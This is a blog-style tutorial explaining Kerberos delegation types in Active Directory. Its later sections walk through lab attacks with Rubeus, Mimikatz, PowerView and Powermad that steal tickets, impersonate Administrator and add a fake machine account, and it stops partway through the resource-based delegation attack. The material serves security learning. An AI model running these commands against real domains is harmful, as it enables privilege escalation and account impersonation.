S4fuckMe2selfAndUAndU2proxy - A low dive into Kerberos delegations

Hello fellow h4x0rs, this time we are going to have a closer look at the different types of delegations inside an Active Directory.
We’ll try to figure out what this magic is all about and of course how we can abuse it for fun and profit.

Prepare yourself for some absolute brainfuck and some bonus info if you make it through to the end.


It’s been some time since I last had the power and will to learn and write about something new, but over the past few weeks the cyber g0ds took control over me again. For whatever reason I decided to dive into delegation attacks, because it is once again a topic I am not capable of to fully understand (which is even the case after writing this blog post). And as mostly all the posts I am writing, this is again to help me understand this topic a little more in detail in the first place.

So without further ado let’s getz happy.

Kerberos Delegation

Just by looking at the word itself, it becomes clear to the reader what it’s all about. Someone or something gets something from someone else and does something with it on behalf. In Germany we say: “Klingt komisch, ist aber so”.

In an Active Directory, delegation enables an account (user, system or service) to act on behalf of another account and do something “as him” - so this account is able to impersonate others, to access additional resources.
To give you an example:

A user visits a website hosted on anIIS to which he authenticates to. The website uses a SQL database in the backend, to which data has to be read from as that user. So the webserver gets the ability granted to impersonate that user, and authenticate as him - via Kerberos - to the SQL database and e.g. fetch data from a table only accessible by that user,which is called delegation.
Microsoft has a good workflow in the official documents - in this case it is the one for Constrained Delegation, but you hopefully get the idea:

There are three main types ofdelegation that you might stumple upon in an AD:

  1. Unconstrained Delegation
  2. Constrained Delegation
  3. Resource Based Constrained Delegation

In the upcoming sections I will use terms like:

TGT - Ticket Granting Ticket
ST - Service Ticket
KDC - Key Distribution Center
and alike - stuff that goes in the same direction - technology wise

If you are not familiar with this terminology, I highly recommend you to read my previous blog post about Kerberoasting, where all of this stuff is explained. But you can of course just do a lame ass google search :)So let’s dive a little deeper, without getting to technical.

Unconstrained Delegation

Unconstrained Delegation means, that an account is allowed to impersonate ANY user to ANY service. So from an attackers perspectivethis seems like a really valuable target to to get control over, as it most likely means game over.

When a user requests a ST for the webservice from the example above, the KDC will include the user’s TGT inside the ST for the webservice. The service account is then able to extract and cache the TGT from the ST and with that ticket request another ST as that user for the SQL service, ultimately authentication to that service as the user and not as himself.

The config of an AD object looks like this (all objects that have an SPN can be configured for delegation):When a user (lowpriv in this case) accesses the system epo configured with Unconstrained Delegation enabled:

The TGT of that user automagically gets cached. We can use Rubeus with the triage or monitor function to play along and watch them tickets flying in:

Rubeus.exe monitor /interval:10 /targetuser:lowpriv

Rubeus.exe triage

Constrained Delegation

In the case of Constrained Delegation we are facing a more restricted variant, which was invented as an answer to face the security issues that arose from the unconstrained version. This time the account can impersonate ANY account but only to specific services on specific hosts.

What also is different here is, that the server doesn’t cache the users TGTs (well the KDC doesn’t even include them anymore inside the STs) but instead is allowed to request a ST for the destination service for another user, but with his own TGT.
So it goes like:
“Hey KDC, it’s me the IIS-service account, please give me a ST for SQL/SQL-Server, not for me but for my buddy user1. K. thanks.”

The config inside AD looks like this:

The system epo is allowed to delegate to the cifs service at dc2016 and the ldap service at dc2016-2.

To achieve this, Microsoft extended the Kerberos protocol by two extensions, namingly S4U2self and S4U2proxy.
To quote Redmond at this stage:“The S4U2self extension allows a service to obtain a service ticket to itself on behalf of a user.”
“The Service for User to Proxy (S4U2proxy) extension provides a service that obtains a service ticket to another service on behalf of a user.”

S4U2self’s purpose for an account is to be able to get a ST to itself when the user that needs to be impersonated did NOT authenticate via Kerberos - e.g. we used NTLM to authenticate to a webserver.
This is called:

The ticket generated with this extension has the forwardable flag set, which is a prerequisit for the whole stuff to work.

S4U2proxy’s purpose is to take that forwardable ticket and use it to request a ST to any SPN specified in the msds-allowedtodelegateto options for the user specified in the S4U2self part. The verification of if the requesting account is allowed to impersonate users to the service provided is done by the KDC, which looks up the accounts msds-allowedtodelegateto field and only issues the ST if there is a match.
In this case epo is allowed to delegate to cifs, netman and remoteaccess to win10x64 only.

Resource Based Constrained Delegation

This type of delegation is very often described as just being the same as Constrained Delegation, just that the party granting permissions is the other way around. I personally had so much difficulties in understanding what is meant by that, until I stumbled across Charlie Bromberg’s awesome talk at Insomni’Hack (please watch it to try to understand this whole topic), where he had this picture on his slide deck:

What is meant by the other way around is, that rather then granting an account the permission to request STs as another user, you configure an account in a way that it allows other accounts to impersonate him for certain services on certain devices. You canalso add user accounts to the msDS-AllowedToActOnBehalfOfOtherIdentity attribute. However, the user account must have an SPN set (see also here).

Let’s do it together. We want the system WIN10X64 to be able to delegate to the system epo. Instead of editing settings on WIN10X64 like we would have done with Constrained Delegation, we in this case edit the msDS-AllowedToActOnBehalfOfOtherIdentity attribute of epo, to which we want to delegate to.

Before RBCD set:

After RBCD set:

You can set RBCD with the help of the PowerShell AD cmdlets like so (take care of the trailing $ if you want to use computer accounts, as the SAMAccountName is needed here):

Set-ADComputer <account you want to delegate to> -PrincipalsAllowedToDelegateToAccount <account we want to delegate from>

To query an account and see who can delegate via RBCD, we can also user PowerShell again:

$x = Get-ADComputer epo -Properties msDS-AllowedToActOnBehalfOfOtherIdentity

Finally to unset RBCD we can set the attribute back to $null:

Set-ADComputer epo-PrincipalsAllowedToDelegateToAccount $null

Finding affected accounts and abusing the shit out of them

Let’s get dirty and start with the fun part.
There are tons of abuse cases and a shitload of delegation attacks described in the Interwebz. Often times relaying attacks and tools are relying on RBCDto fully extend their potential. In this section we’re going to see how to discover potential accounts and how to attack them.

Unconstrained Delegation - recon and abuse


If an account is set up for Unconstrained Delegation, it’s userAccountControl attribute contains TRUSTED_FOR_DELEGATION:

We can issue PowerView to get the job done for us:

Get-DomainComputer -Unconstrained -Properties distinguishedname,useraccountcontrol

or my beloved BloodHound:

MATCH (c:Computer {unconstraineddelegation:true}) RETURN c

or even the native PowerShell AD cmdlets:

Get-ADComputer -LDAPFilter"(&(objectCategory=Computer)(userAccountControl:1.2.840.113556.1.4.803:=524288))" -Properties DNSHostName,userAccountControl


The first step is to always compromise an account that is configured for Unconstrained Delegation. This can be a user or a system. For this demo we assume that we compromised the system epo which is allowed for UD, and that we have control over the user service which is local admin on this system.

We now either already have a Kerberos ticket, or we coerce authentication to get one (SpoolSample, PetitPotam, ShadowCoerce and alike) or we just wait until an account we want to impersonate accesses our system. In this case the user Administrator accessed the system via SMB:

.\Rubeus.exe monitor /targetuser:Administrator /interval:5

As you can see, our current user is not able to access the DC.

In the next step we pass the TGT to our current session and are so able to impersonate the admin user and gain acccess to the DC:

.\Rubeus.exe ptt /ticket:doIFczCCBW+g...

or to other systems or services:

Constrained Delegation - recon and abuse


in this example we have the system WIN10X64 configured with Constrained Delegation allowing it to delegate to cifs\epo.mcafeelab.local:

We can use ADExplorer and filter the results on the msDS-AllowedToDelegateTo value:

or BloodHound:

MATCH p = (a)-[:AllowedToDelegate]->(c:Computer) RETURN p

or PowerView:

Get-NetComputer -TrustedToAuth | select samaccountname,msds-allowedtodelegateto | ft

Be aware that Constrained Delegation can be set on users as well, so make sure to also search for them in your queries!!!


We somewhat need to get hold on a TGT from the account that holds the ConstrainedDelegation rights. We can achieve that if we have the cleartext password or NT hash of the affected account, or directly dump the TGT with Rubeus if we have according privileges.

Rubeus way

First we look for the krbtgt ticket for the user win10x64$

Rubeus.exe triage

Then we dump the ticket from the luid:

Rubeus.exe dump /luid:0x12d1f7

And finally use that ticket to do the S4U magic:

Rubeus.exe s4u /impersonateuser:Administrator /msdsspn:cifs/epo.mcafeelab.local /ticket:doIFRjCCBUKgAwIBB...BTA== /ptt

We can see with klist that we successfully obtained a forwardable ticket for cifs/epo.mcafeelab.local for the user Administrator, with which we can access epo now via cifs but not e.g. wsman:

Mimikatzi way

This time we are going to obtain the aes256 key of the machine account:


For whatever reason the output of mimikatz would not show me the correct descriptions. There were people in the past with the same problem. However the first entry under the Key List section is in fact the aes256 key.

Then it’s nearly the same with Rubeus as before, but this time with the system account as user and aes256 key as the “password”:

Rubeus.exe s4u /impersonateuser:god /msdsspn:cifs/epo.mcafeelab.local/user:win10x64$ /aes256:4b55f...fd82 /ptt

What is really cool about this type of attacks is, that we don`t need any info about the passwords of the users we want to impersonate. We can just say: “KDC, I want a ticket for user X - gimme that!”.

Resource Based Constrained Delegation - recon and abuse


We can again issue ADExplorer, the AD PowerShell cmdlets, BloodHound or PowerView to search for affected accounts like described in the Constrained Delegation part.

Get-ADComputer epo -Properties PrincipalsAllowedToDelegateToAccountThe idea is that as soon as you have control over an account’s msDS-AllowedToActOnBehalfOfOtherIdentity property, you can place an SPN there and are ready to go to pwn this account. The scenario fits to computer objects as well as users, with the difference that by default a user can’t alter it’s own settings but a computer can.
So this is leading us to either have the luck to have compromised an account with the according rights over our target or we are in MitM position and can relay to AD accordingly. If you want to know how this fancy shit is working -> Relaying 101.

For the course of this writeup, let’s assume that our user lowpriv happens to have these rights over the system epo:

In an on-prem AD the default settings allow the group Authenticated Users (which includes all computers and users) to add up to 10 computer objects to the AD. To check if this is possible, let’s use PowerView’s Get-DomainObject cmdlet:

Get-DomainObject -Identity "dc=mcafeelab,dc=local" -domain mcafeelab.local -Properties distinguishedname,ms-ds-machineaccountquota

Besides the quota, our pwnd user must be allowed to actually add computer objects, and this is controlled by the Default Domain Controllers Policy with the Add workstations to domain security setting, which by default contains (who would have thought) the Authenticated Users group:

If you know of a cool way to fetch this info the hacker-way, please let me know.

Okay, so the prerequisites are in place. So let’s add a new computer object to the domain with the help of Powermad:

New-MachineAccount -MachineAccount FAKE01 -Password $(ConvertTo-SecureString 'Pillemann123' -AsPlainText -Force) -Verbose

